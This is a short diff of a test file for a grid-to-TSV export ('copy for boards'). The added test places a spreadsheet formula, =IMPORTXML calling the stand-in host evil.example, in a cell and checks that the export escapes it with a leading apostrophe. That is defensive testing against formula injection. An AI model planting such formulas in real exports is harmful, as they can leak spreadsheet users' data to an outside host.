@@ -40,6 +40,8 @@ describe('copy for boards', () => {
     expect(tsv.split('\n')).toHaveLength(7);
     expect(tsv.split('\n').every((line) => line.split('\t').length === 6)).toBe(true);
     expect(tsv).toContain('Two parts and lines');
+    grid[1]![2] = '=IMPORTXML("https://evil.example","//a")';
+    expect(gridToTsv(grid).split('\n')[1]!.split('\t')[2]).toBe('\'=IMPORTXML("https://evil.example","//a")');
   });
 
   it('as an HTML table with every cell escaped', async () => {
